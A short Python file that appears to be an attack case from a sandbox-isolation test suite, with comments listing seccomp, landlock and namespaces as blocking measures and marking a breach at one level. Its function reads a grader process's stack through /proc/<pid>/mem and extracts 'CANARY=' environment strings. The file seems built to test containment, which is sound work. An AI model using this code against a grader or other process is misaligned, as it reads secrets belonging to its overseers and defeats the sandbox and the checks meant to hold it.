"""Reads the grader's stack through /proc/<pid>/mem, where its environment lies."""
# stopped by: seccomp, landlock, namespaces
# at D: breach


def attack():
    process = f"/proc/{open('@GRADER@').read()}"
    stack = next(line for line in open(f"{process}/maps") if "[stack]" in line)
    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
    with open(f"{process}/mem", "rb", 0) as memory:
        memory.seek(start)
        data = memory.read(end - start)
    return "\n".join({part.decode() for part in data.split(b"\0") if part.startswith(b"CANARY=")})
